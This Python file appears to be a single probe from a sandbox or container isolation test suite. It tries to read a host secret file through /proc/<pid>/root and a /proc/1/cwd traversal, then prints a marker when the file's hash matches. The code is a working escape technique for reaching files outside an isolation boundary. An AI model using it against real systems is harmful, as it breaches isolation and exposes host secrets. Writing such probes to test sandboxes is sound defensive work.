"""Look at the files of the host through the root of any process.

layer: processes
plain: succeeds
"""

import glob
import hashlib

for root in glob.glob("/proc/[0-9]*/root") + ["/proc/1/cwd/../../../.."]:
    try:
        found = open(root + TARGET["secret_file"]).read()
    except OSError:
        continue
    if hashlib.sha256(found.encode()).hexdigest() == TARGET["secret_sha256"]:
        print(MARKER)
        break
